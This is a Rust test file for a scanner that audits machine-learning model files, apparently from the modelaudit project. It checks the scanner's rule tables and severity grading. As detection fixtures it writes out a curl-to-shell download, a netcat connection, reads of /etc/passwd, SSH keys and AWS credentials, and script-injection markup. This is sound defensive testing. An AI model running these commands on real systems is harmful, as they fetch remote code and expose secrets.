//! The rows of `data/rules/`: complete, consistent, frozen; and what they make of single facts.

use std::collections::BTreeSet;
use std::path::Path;

use modelaudit::bytes::InputName;
use modelaudit::fact::{Fact, Kind, Location, Sink};
use modelaudit::finding::Severity::{self, Critical, High, Info, Low, Medium};
use modelaudit::rules::{Class, GlobalEntry, GlobalTable, Judge, RuleSet, Set, Status, order};

fn shipped() -> &'static RuleSet {
    RuleSet::shipped()
}

#[test]
fn codes_names_and_severities_are_frozen() {
    let lines: Vec<String> = shipped()
        .rules()
        .iter()
        .map(|rule| {
            let status = match rule.status {
                None => "active",
                Some(Status::Planned) => "planned",
                Some(Status::Policy) => "policy",
            };
            format!("{:5} {:8} {status:7} {}", rule.code, rule.severity, rule.name)
        })
        .collect();
    insta::assert_snapshot!(lines.join("\n"));
}

#[test]
fn every_expression_compiles() {
    for rule in shipped().rules() {
        for (field, pattern) in rule.on.iter().flat_map(|clause| &clause.like) {
            assert!(regex::Regex::new(pattern).is_ok(), "{}: {field} like {pattern}", rule.code);
        }
    }
}

#[test]
fn codes_and_names_are_unique() {
    let mut seen = BTreeSet::new();
    for rule in shipped().rules() {
        assert!(seen.insert(&rule.code), "{} occurs twice", rule.code);
        assert!(seen.insert(&rule.name), "{} occurs twice", rule.name);
        assert_ne!(order(&rule.code), u32::MAX, "{} is no code", rule.code);
        assert_ne!(rule.code, "S608", "reserved");
    }
}

#[test]
fn rows_stand_in_the_file_of_their_family_in_order() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("data/rules");
    let mut total = 0;
    for entry in std::fs::read_dir(folder).expect("data/rules").flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        let text = std::fs::read_to_string(entry.path()).expect("a readable file");
        let codes: Vec<&str> =
            text.lines().filter_map(|line| line.strip_prefix("code = \"")?.strip_suffix('"')).collect();
        assert!(codes.is_sorted_by_key(|code| order(code)), "{name} is not sorted");
        let family = name.split('-').next().unwrap_or_default().to_ascii_uppercase();
        for code in &codes {
            assert_eq!(code.get(..code.len().saturating_sub(2)), Some(family.as_str()), "{code} in {name}");
        }
        total += codes.len();
    }
    assert_eq!(total, shipped().rules().len(), "a file of data/rules/ is not compiled in");
}

#[test]
fn every_row_says_why_and_what_to_do() {
    for rule in shipped().rules() {
        let code = &rule.code;
        for text in [&rule.why, &rule.fix] {
            assert!(text.len() > 20 && text.ends_with('.'), "{code}: {text}");
            assert!(!text.contains('\n'), "{code}: a line break in a sentence");
        }
        assert!(!rule.cwe.is_empty() || !rule.atlas.is_empty() || !rule.refs.is_empty(), "{code} has no reference");
        assert!(["very-high", "high", "medium", "low"].contains(&rule.precision.as_str()), "{code}");
        assert!(rule.refs.iter().all(|link| link.starts_with("https://")), "{code}: {:?}", rule.refs);
        assert!(rule.atlas.iter().all(|id| id.starts_with("AML.T")), "{code}: {:?}", rule.atlas);
        assert!(rule.cve.iter().all(|id| id.starts_with("CVE-")), "{code}: {:?}", rule.cve);
        let policies = ["LTE", "RTE", "KFO", "ARB", "SUS", "FMT", "LIC", "BLK", "ORG", "LOC"];
        assert!(rule.prisma.iter().all(|key| policies.contains(&key.as_str())), "{code}: {:?}", rule.prisma);
        assert_eq!(rule.since, "0.1.0", "{code}");
    }
}

#[test]
fn names_are_kebab_case() {
    for rule in shipped().rules() {
        let words = rule.name.split('-');
        let plain = |word: &str| {
            !word.is_empty() && word.chars().all(|letter| letter.is_ascii_lowercase() || letter.is_ascii_digit())
        };
        assert!(words.clone().all(plain), "{}: {}", rule.code, rule.name);
        assert!(!rule.name.starts_with("no-") && !rule.name.starts_with("detect-"), "reads as 'allow {}'", rule.name);
    }
}

#[test]
fn rows_out_of_force_have_no_clauses_and_others_have() {
    let mut planned = 0;
    let mut policy = Vec::new();
    for rule in shipped().rules() {
        assert_eq!(rule.status.is_some(), rule.on.is_empty(), "{}", rule.code);
        match rule.status {
            Some(Status::Planned) => planned += 1,
            Some(Status::Policy) => policy.push(rule.code.as_str()),
            None => {}
        }
    }
    assert_eq!(planned, 88, "a planned rule came into force, or a rule fell back");
    assert_eq!(policy, ["S904", "S1001", "S1002"]);
}

/// Rules in force that no file can trigger, why, and the test that covers them.
const WITHOUT_FIXTURE: &[(&str, &str)] = &[
    (
        "S907",
        "takes two formats of which neither holds code or files, and there is but safetensors: corpus::two_harmless_formats_are_said",
    ),
    ("S999", "stated when this program fails: corpus::what_cannot_be_opened_is_found"),
];

#[test]
fn every_rule_in_force_is_hit_by_a_fixture_and_missed_by_its_neighbour() {
    let families = crate::fixtures::families();
    let fixtures = || families.iter().flat_map(|family| &family.fixtures);
    let hit: BTreeSet<&str> = fixtures().flat_map(|fixture| &fixture.expect).map(String::as_str).collect();
    let missed: BTreeSet<&str> = fixtures().flat_map(|fixture| &fixture.misses).map(String::as_str).collect();
    for code in hit.union(&missed) {
        let rule = shipped().get(code).unwrap_or_else(|| panic!("a fixture names {code}, which does not exist"));
        assert_eq!(rule.status, None, "{code} is not in force, yet a fixture names it");
    }
    let in_force = || shipped().rules().iter().filter(|rule| rule.status.is_none()).map(|rule| rule.code.as_str());
    let excepted = |code: &str| WITHOUT_FIXTURE.iter().any(|(known, _)| *known == code);
    let without = |list: &BTreeSet<&str>| -> Vec<&str> {
        in_force().filter(|code| !list.contains(code) && !excepted(code)).collect()
    };
    assert_eq!(without(&hit), [""; 0], "no fixture expects these");
    assert_eq!(without(&missed), [""; 0], "no fixture misses these by little");
    let needless: Vec<&str> = WITHOUT_FIXTURE.iter().map(|(code, _)| *code).filter(|code| hit.contains(code)).collect();
    assert_eq!(needless, [""; 0], "these have fixtures and need no exception");
    // Rules of the user's settings: policy::, config:: and rules::watch have their tests.
    assert_eq!(in_force().count(), 99, "a rule came into force or left");
}

#[test]
fn every_list_of_dangerous_names_is_used_and_every_list_named_exists() {
    let named: BTreeSet<&str> = shipped()
        .rules()
        .iter()
        .flat_map(|rule| &rule.on)
        .flat_map(|clause| &clause.matches)
        .filter_map(|subject| subject.strip_prefix('@'))
        .collect();
    for set in Set::shipped() {
        if matches!(set.class, None | Some(Class::Denied | Class::Gadget)) {
            assert!(named.contains(set.name), "no rule looks at {}", set.name);
        }
    }
    for set in named {
        assert!(shipped().globals().has_set(set), "@{set} does not exist");
    }
}

#[test]
fn every_kind_of_fact_is_judged_or_inventory() {
    let used: BTreeSet<&str> =
        shipped().rules().iter().flat_map(|rule| &rule.on).map(|clause| clause.fact.as_str()).collect();
    let unused: Vec<&str> = Kind::ALL.iter().map(|kind| kind.name()).filter(|kind| !used.contains(kind)).collect();
    assert_eq!(unused, ["tensor", "metadata"]);
}

/// Rules over a small table of globals that does not depend on the shipped lists.
fn rules() -> RuleSet {
    let mut table = GlobalTable::shipped();
    let entry = |set, class| GlobalEntry { set, class, reason: "" };
    table.insert("posix", "system", entry("os-globals", Class::Denied));
    table.insert("smtplib", "SMTP", entry("mail-globals", Class::Denied));
    table.insert("torch.storage", "_load_from_bytes", entry("deserialiser-globals", Class::Denied));
    table.insert("pickle", "loads", entry("deserialiser-globals", Class::Denied));
    table.insert("builtins", "getattr", entry("reflection-globals", Class::Gadget));
    table.insert("builtins", "open", entry("open-globals", Class::Gadget));
    table.insert("base64", "b64decode", entry("base64-globals", Class::Gadget));
    table.insert("functools", "partial", entry("composition-globals", Class::Gadget));
    table.insert("collections", "OrderedDict", entry("safe-globals", Class::Safe));
    table.insert("mine", "run", entry("user-low", Class::Denied));
    RuleSet::with_globals(table).expect("the shipped rows compile")
}

/// Code, severity and related rules of the hits that facts of one input give.
fn judge(facts: &[Fact<'_>]) -> Vec<(String, Severity, String)> {
    let rules = rules();
    let name = InputName::top("model");
    let mut judge = Judge::new(&rules);
    for fact in facts {
        judge.take(fact, &Location { name: &name, span: None });
    }
    judge.finish().into_iter().map(|hit| (hit.rule.code.clone(), hit.severity, hit.related.join(" "))).collect()
}

#[track_caller]
fn expect(fact: Fact<'_>, code: &str, severity: Severity, related: &str) {
    assert_eq!(judge(&[fact]), [(code.to_owned(), severity, related.to_owned())]);
}

#[track_caller]
fn expect_nothing(fact: Fact<'_>) {
    assert_eq!(judge(&[fact]), []);
}

/// A global that `STACK_GLOBAL` names and `invoked_by` uses; nothing invoked it if that is empty.
fn global<'a>(module: &'a str, function: &'a str, invoked_by: &'a str) -> Fact<'a> {
    with(module, function, invoked_by, "", "")
}

fn with<'a>(module: &'a str, function: &'a str, invoked_by: &'a str, arguments: &'a str, call: &'a str) -> Fact<'a> {
    Fact::Global {
        module,
        function,
        opcode: "STACK_GLOBAL",
        invoked_by,
        invoked: !invoked_by.is_empty(),
        usage: if invoked_by.is_empty() { "referenced" } else { "called" },
        arguments,
        call,
        calls: "",
        protocol: 4,
        stream: 0,
        count: 1,
    }
}

#[test]
fn a_dangerous_name_is_one_finding_with_its_opcode_as_companion() {
    expect(global("posix", "system", "REDUCE"), "S101", Critical, "S201");
    expect(global("posix", "system", "INST"), "S101", Critical, "S202");
    expect(global("posix", "system", "OBJ"), "S101", Critical, "S203");
    expect(global("posix", "system", "NEWOBJ_EX"), "S101", Critical, "S204");
    expect(global("posix", "system", "BUILD"), "S101", Critical, "S207");
    expect(global("posix", "system", ""), "S101", Critical, "S205");
    expect_nothing(global("collections", "OrderedDict", "REDUCE"));
}

#[test]
fn paths_and_addresses_in_a_call_are_told() {
    let call = |call| with("posix", "system", "REDUCE", "", call);
    expect(call("posix.system('curl http://203.0.113.9/x | sh')"), "S101", Critical, "S201 S308 S309");
    expect(call("posix.system('nc 127.0.0.1 80; echo 1.2.3')"), "S101", Critical, "S201");
    expect(call("posix.system('cat /etc/passwd')"), "S101", Critical, "S408 S201");
    expect(call("posix.system('cat ~/.ssh/id_rsa')"), "S101", Critical, "S409 S201");
    expect(call("posix.system('cat models/etc/x ~/work')"), "S101", Critical, "S201");
}

#[test]
fn what_a_loader_nested_in_a_pickle_is_depends_on_what_it_loads() {
    let load = |arguments| with("torch.storage", "_load_from_bytes", "REDUCE", arguments, "");
    expect(load("clean"), "S116", Low, "S201");
    for arguments in ["dirty", "opaque", ""] {
        expect(load(arguments), "S116", Critical, "S201");
    }
    expect(with("pickle", "loads", "REDUCE", "clean", ""), "S116", Critical, "S201");
}

#[test]
fn a_helper_is_a_finding_only_if_its_target_is_hidden() {
    for (module, function, code) in [("builtins", "getattr", "S115"), ("functools", "partial", "S118")] {
        expect(with(module, function, "REDUCE", "unresolved", ""), code, High, "S201");
        expect(with(module, function, "REDUCE", "", ""), code, High, "");
        expect_nothing(with(module, function, "REDUCE", "resolved", ""));
        expect_nothing(global(module, function, ""));
    }
}

#[test]
fn open_is_judged_by_its_mode_and_path() {
    let open = |arguments, call| with("builtins", "open", "REDUCE", arguments, call);
    expect(open("write", "builtins.open('out', 'w')"), "S401", Medium, "");
    expect(open("unknown", ""), "S401", Medium, "");
    expect(open("read", "builtins.open('out')"), "S401", Low, "");
    expect(open("read", "builtins.open('/proc/self/environ')"), "S408", High, "S401");
    expect(open("read", "builtins.open('/home/me/.aws/credentials')"), "S409", Medium, "S401");
    expect(open("write", "builtins.open('/home/me/notes', 'w')"), "S401", Medium, "S409");
}

#[test]
fn decoders_are_findings_only_if_code_comes_out() {
    expect(with("base64", "b64decode", "REDUCE", "code", ""), "S601", Medium, "");
    for arguments in ["data", "resolved", ""] {
        expect_nothing(with("base64", "b64decode", "REDUCE", arguments, ""));
    }
}

#[test]
fn unknown_names_are_graded_by_use() {
    expect(global("helpers", "load", "REDUCE"), "S205", High, "");
    let mut by_global = global("helpers", "load", "REDUCE");
    if let Fact::Global { opcode, .. } = &mut by_global {
        *opcode = "GLOBAL";
    }
    expect(by_global, "S206", High, "");
    // Classes are one finding a file, however many there are, and whether they are called or only stored.
    let hits = judge(&[global("mine.net", "Encoder", ""), global("mine.net", "Decoder", "REDUCE")]);
    assert_eq!(hits, [("S215".to_owned(), Medium, String::new())]);
}

#[test]
fn the_users_lists_decide_the_level() {
    expect(global("mine", "run", "REDUCE"), "S206", Low, "S201");
}

/// The words by which rows choose facts of a kind.
fn words(kind: &str) -> BTreeSet<&'static str> {
    let clauses = shipped().rules().iter().flat_map(|rule| &rule.on).filter(|clause| clause.fact == kind);
    clauses.flat_map(|clause| &clause.matches).map(String::as_str).collect()
}

#[test]
fn files_of_rows_list_the_words_that_rows_use() {
    for (file, kind) in [("s2-pickle", "opcode"), ("s4-files", "member"), ("s9-integrity", "structure")] {
        let path = Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("data/rules/{file}.toml"));
        let text = std::fs::read_to_string(path).expect("a readable file");
        let head: Vec<&str> = text.lines().map_while(|line| line.strip_prefix('#')).collect();
        let head = head.join(" ");
        let (_, listed) = head.split_once(&format!(" in {kind} facts:")).expect("a vocabulary");
        let (listed, _) = listed.split_once('.').expect("an end");
        let listed: BTreeSet<&str> = listed.split([' ', ',', ';', '(', ')']).collect();
        let missing: Vec<&str> = words(kind).into_iter().filter(|word| !listed.contains(word)).collect();
        assert_eq!(missing, [""; 0], "not in the vocabulary of {file}.toml");
    }
}

#[test]
fn every_effect_of_a_pickle_has_its_rule() {
    let table = [
        ("unresolved-callable", "REDUCE", "S201", Critical),
        ("unresolved-callable", "BUILD", "S201", Critical),
        ("unresolved-callable", "INST", "S202", Critical),
        ("unresolved-callable", "OBJ", "S203", Critical),
        ("unresolved-callable", "NEWOBJ", "S204", Critical),
        ("newobj-on-function", "NEWOBJ_EX", "S204", Critical),
        ("unresolved-name", "STACK_GLOBAL", "S205", High),
        ("computed-name", "REDUCE", "S205", High),
        ("invalid-name", "GLOBAL", "S206", High),
        ("confusable-name", "GLOBAL", "S605", Medium),
        ("build-on-import", "BUILD", "S207", Medium),
        ("function-planted", "SETITEM", "S207", High),
        ("state-computed", "BUILD", "S207", High),
        ("build-dunder", "BUILD", "S207", Medium),
        ("build-from-unsafe", "BUILD", "S207", Medium),
        ("state-code", "BUILD", "S207", Critical),
        ("item-write-on-import", "SETITEM", "S209", Medium),
        ("item-write-on-import", "ADDITEMS", "S209", Medium),
        ("item-write-on-import", "APPENDS", "S210", Medium),
        ("ext-registry", "EXT1", "S211", High),
        ("persistent-id", "BINPERSID", "S212", Medium),
        ("expansion", "DUP", "S214", High),
        ("proto-not-first", "PROTO", "S216", High),
        ("proto-repeated", "PROTO", "S216", High),
        ("proto-unsupported", "PROTO", "S216", High),
        ("frame-overrun", "FRAME", "S216", High),
        ("frame-crosses-stop", "FRAME", "S216", High),
        ("frame-divergence", "FRAME", "S216", High),
        ("undefined-memo", "BINGET", "S216", High),
        ("stack-underflow", "POP", "S216", High),
        ("hidden-stream", "STOP", "S216", High),
        ("mark-padding", "MARK", "S216", High),
        ("forgotten-object", "BINGET", "S216", High),
        ("odd-array", "BUILD", "S216", High),
    ];
    let dormant =
        Fact::Dormant { module: "posix", function: "system", call: "", calls: "", arguments: "", protocol: 4 };
    expect(dormant, "S213", Low, "");
    let beside = ["item-write-on-tensor"];
    assert_eq!(table.iter().map(|row| row.0).chain(beside).collect::<BTreeSet<_>>(), words("opcode"));
    for (effect, opcode, code, severity) in table {
        expect(Fact::Opcode { effect, opcode, detail: "", stream: 0 }, code, severity, "");
    }
    for (opcode, code) in [("SETITEM", "S209"), ("SETITEMS", "S210")] {
        let fact = Fact::Opcode { effect: "item-write-on-tensor", opcode, detail: "", stream: 0 };
        expect(fact, code, Medium, "S1101");
    }
}

#[test]
fn every_anomaly_of_a_member_has_its_rule() {
    let table = [
        ("path-traversal", "S405", Critical),
        ("symlink-escape", "S406", High),
        ("hidden-code", "S407", Low),
        ("bomb-ratio", "S410", High),
        ("bomb-overlap", "S410", High),
        ("bomb-quine", "S410", High),
        ("header-disagreement", "S411", High),
        ("hidden-entry", "S411", High),
        ("flag-lies", "S411", High),
        ("duplicate-name", "S412", Medium),
        ("duplicate-name-differs", "S412", High),
        ("encrypted", "S413", Medium),
        ("unsupported-method", "S413", Medium),
        ("prefix-bytes", "S414", Low),
        ("suffix-bytes", "S414", Low),
        ("device", "S415", High),
        ("special-permission", "S415", High),
        ("crc-mismatch", "S416", High),
        ("layer-escape", "S417", High),
        ("digest-mismatch", "S1223", High),
        ("external-storage", "S1116", High),
        ("external-data", "S1116", Low),
        ("external-data-outside", "S1116", High),
        ("media-type", "S901", Low),
        ("media-type-code", "S901", High),
    ];
    assert_eq!(table.iter().map(|row| row.0).collect::<BTreeSet<_>>(), words("member"));
    for (anomaly, code, severity) in table {
        expect(Fact::Member { anomaly, member: "m", container: "zip", detail: "" }, code, severity, "");
    }
}

#[test]
fn every_anomaly_of_a_structure_has_its_rule() {
    let table = [
        ("header-bounds", "S909", High, ""),
        ("tensor-out-of-bounds", "S909", High, ""),
        ("size-overflow", "S909", High, ""),
        ("storage-size-mismatch", "S909", High, "S1101"),
        ("shape-size-mismatch", "S804", Low, ""),
        ("hidden-region", "S910", Medium, ""),
        ("hole", "S812", Low, ""),
        ("unreferenced-storage", "S812", Low, "S806"),
        ("overlap", "S811", High, ""),
        ("duplicate-tensor", "S811", High, ""),
        ("duplicate-key", "S911", Medium, ""),
        ("trailing-bytes", "S905", Low, ""),
        ("invalid-metadata", "S905", Low, ""),
        ("unknown-dtype", "S902", Low, ""),
        ("missing-storage", "S909", High, ""),
        ("second-format", "S907", Medium, ""),
        ("polyglot", "S908", High, ""),
        ("pickled-payload", "S1127", High, ""),
        ("native-payload", "S1127", High, ""),
    ];
    assert_eq!(table.iter().map(|row| row.0).collect::<BTreeSet<_>>(), words("structure"));
    for (anomaly, code, severity, related) in table {
        let fact = Fact::Structure { anomaly, format: "safetensors", detail: "d", bytes: 0 };
        expect(fact, code, severity, related);
    }
}

#[test]
fn every_form_of_executable_has_its_rule() {
    let table = [
        ("pe", "S501", Critical),
        ("elf", "S502", Critical),
        ("macho", "S503", Critical),
        ("shell-script", "S504", Critical),
        ("batch-script", "S505", Critical),
        ("powershell-script", "S506", Critical),
        ("wasm", "S509", High),
        ("python-bytecode", "S511", High),
        ("java-class", "S1123", High),
        ("dex", "S1123", High),
    ];
    assert_eq!(table.iter().map(|row| row.0).collect::<BTreeSet<_>>(), words("executable"));
    for (form, code, severity) in table {
        for place in ["whole", "carved"] {
            expect(Fact::Executable { form, place, detail: "" }, code, severity, "");
        }
    }
    expect_nothing(Fact::Executable { form: "gpu-code", place: "carved", detail: "" });
}

#[test]
fn a_false_name_is_high_only_if_it_promises_safety() {
    let mismatch = |content, promises_safety, runs_code| Fact::Mismatch {
        content,
        extension: "safetensors",
        promises_safety,
        runs_code,
    };
    expect(mismatch("pickle", true, true), "S901", High, "");
    expect(mismatch("zip", true, false), "S901", Low, "");
    expect(mismatch("zip", false, true), "S901", Low, "");
    expect(mismatch("unknown", true, false), "S903", Low, "");
}

#[test]
fn what_was_not_read_is_never_silent() {
    let format = "pickle";
    expect(Fact::Malformed { reason: "cut off", format }, "S902", Low, "");
    expect(Fact::Limit { reason: "members", format }, "S912", Low, "");
    expect(Fact::Unsupported { reason: "big-endian", format }, "S912", Low, "");
    expect(Fact::Unsupported { reason: "no decoder for this format", format: "onnx" }, "S913", Info, "");
    expect(Fact::Unresolved { pointer: "git-lfs", object: "" }, "S914", Low, "");
    expect(Fact::Fault { reason: "panic", format }, "S999", Low, "");
}

#[test]
fn active_html_in_metadata_is_told_from_text() {
    let text = |text, slot| Fact::Text { text, slot };
    for markup in ["<SCRIPT src=x>", "<img src=x onerror=alert(1)>", "<a href=\"javascript:x()\">"] {
        expect(text(markup, "metadata"), "S508", High, "");
        expect_nothing(text(markup, "pickle-string"));
    }
    for plain in ["a <b>bold</b> claim", "the manuscript", "javascript: the good parts", "{\"onload\": 3 < 4}"] {
        expect_nothing(text(plain, "metadata"));
    }
}

#[test]
fn deceiving_characters_count_in_member_names_only() {
    expect(Fact::Text { text: "model\u{202e}gpj.pkl", slot: "member-name" }, "S605", Medium, "");
    expect_nothing(Fact::Text { text: "مدل\u{200c}ها.bin", slot: "member-name" });
    expect_nothing(Fact::Text { text: "\u{202e}text", slot: "metadata" });
}
